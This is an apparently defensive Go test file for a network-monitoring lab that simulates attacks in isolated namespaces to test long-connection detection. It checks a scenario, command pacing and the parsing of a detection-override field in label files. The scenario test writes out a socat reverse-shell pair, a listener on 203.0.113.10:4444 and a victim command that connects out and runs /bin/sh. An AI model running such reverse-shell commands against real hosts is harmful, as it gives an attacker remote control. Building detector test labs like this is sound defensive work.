package lab

import (
	"encoding/json"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/vigil-nsm/vigil/internal/detect"
)

// TestLongconnScenario: the reverse shell is two socat processes, the
// attacker's listener on the outside server and ws1's shell connecting
// out to it (the only command lines: the commands typed go through the
// connection), and the session fills the attack phase, whatever its
// length; the labels' detection override lowers longconn's thresholds
// below the default phase and nothing else.
func TestLongconnScenario(t *testing.T) {
	s, err := Lookup("longconn")
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(s.Classes, []string{"conn.long"}) || !reflect.DeepEqual(s.Victims, []string{hostWS1.IPv4().String()}) ||
		!reflect.DeepEqual(s.AttackerAddrs, []string{"203.0.113.10", "2001:db8:ff::10"}) {
		t.Errorf("classes %v, victims %v, attacker %v", s.Classes, s.Victims, s.AttackerAddrs)
	}
	for _, d := range []time.Duration{30 * time.Second, s.Duration, MaxDuration} {
		a := &attackRun{w: workDir(t.TempDir()), duration: d, dryRun: true, clock: time.Unix(1_800_000_000, 0)}
		if err := s.attack(a); err != nil {
			t.Fatal(err)
		}
		if elapsed := a.clock.Sub(time.Unix(1_800_000_000, 0)); elapsed != d {
			t.Errorf("%s: the session lasts %s", d, elapsed)
		}
		if len(a.commands) != 2 || !strings.HasPrefix(a.commands[0], "ip netns exec vgl-ext socat -d TCP-LISTEN:4444,bind=203.0.113.10,") ||
			a.commands[1] != "ip netns exec vgl-ws1 socat TCP:203.0.113.10:4444,retry=20,interval=0.5 EXEC:/bin/sh,su=nobody,stderr" {
			t.Errorf("%s: commands %q", d, a.commands)
		}
		if len(a.phases) != 1 {
			t.Errorf("%s: phases %+v", d, a.phases)
		}
	}

	cfg := detect.DefaultConfig()
	if err := cfg.Override(s.detect); err != nil {
		t.Fatal(err)
	}
	def := detect.DefaultConfig()
	lc := cfg.LongConn
	if lc.MinDuration >= s.Duration.Seconds() || lc.MinPiece > lc.MinDuration || lc.MinDuration < 60 {
		t.Errorf("override %s: min_duration_s %v, min_piece_s %v for a %s session", s.detect, lc.MinDuration, lc.MinPiece, s.Duration)
	}
	lc.MinDuration, lc.MinPiece = def.LongConn.MinDuration, def.LongConn.MinPiece
	cfg.LongConn = lc
	if !reflect.DeepEqual(cfg, def) {
		t.Error("the override changes more than longconn's two thresholds")
	}
	for _, o := range Scenarios() {
		if o.Name != "longconn" && o.detect != nil {
			t.Errorf("%s has a detection override", o.Name)
		}
	}
}

// TestTypeCommands: a command at once, then one every 20–40 s while
// another fits in the session.
func TestTypeCommands(t *testing.T) {
	dir := t.TempDir()
	f, err := os.Create(filepath.Join(dir, "commands"))
	if err != nil {
		t.Fatal(err)
	}
	start := time.Unix(1_800_000_000, 0)
	a := &attackRun{dryRun: true, clock: start}
	if err := typeCommands(a, rand.New(rand.NewPCG(1, 2)), start.Add(7*time.Minute), f); err != nil {
		t.Fatal(err)
	}
	f.Close()
	b, _ := os.ReadFile(f.Name())
	lines := strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
	if len(lines) < 7*60/40 || len(lines) > 7*60/20+1 || lines[0] != shellCommands[0] {
		t.Errorf("%d commands in 7 minutes: %q", len(lines), lines)
	}
	if a.clock != start.Add(7*time.Minute) {
		t.Errorf("ended at %s", a.clock.Sub(start))
	}
}

// TestLabelsDetectOverride: the labels carry the scenario's override as
// its JSON, read back as it was written; labels without one have no
// detect field; an override that the detection config refuses (a
// misspelt field, a section that is not a detector, a value it cannot
// use) makes the labels unreadable.
func TestLabelsDetectOverride(t *testing.T) {
	dir := t.TempDir()
	with := testLabels()
	with.Detect = json.RawMessage(longconnDetect)
	for name, l := range map[string]*Labels{"with": with, "without": testLabels()} {
		path := filepath.Join(dir, name+".labels.json")
		if err := WriteLabels(path, l); err != nil {
			t.Fatal(err)
		}
		got, err := ReadLabels(path)
		if err != nil {
			t.Fatal(err)
		}
		var gotV, wantV any
		if l.Detect != nil {
			json.Unmarshal(got.Detect, &gotV)
			json.Unmarshal(l.Detect, &wantV)
		}
		if !reflect.DeepEqual(gotV, wantV) || (got.Detect == nil) != (l.Detect == nil) {
			t.Errorf("%s: detect %s, want %s", name, got.Detect, l.Detect)
		}
		b, _ := os.ReadFile(path)
		if has := strings.Contains(string(b), `"detect"`); has != (l.Detect != nil) {
			t.Errorf("%s: detect field written: %v", name, has)
		}
	}
	for name, detect := range map[string]string{
		"misspelt field":  `{"longconn": {"min_duraton_s": 240}}`,
		"unknown section": `{"longconnn": {"min_duration_s": 240}}`,
		"not a detector":  `{"internal_networks": ["203.0.113.0/24"]}`,
		"bad value":       `{"longconn": {"window_s": -1}}`,
		"wrong type":      `{"longconn": {"min_duration_s": "4m"}}`,
	} {
		path := filepath.Join(t.TempDir(), "bad.json")
		os.WriteFile(path, []byte(`{"scenario": "x", "start_ts": 1, "end_ts": 2, "detect": `+detect+`}`), 0o644)
		if _, err := ReadLabels(path); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}
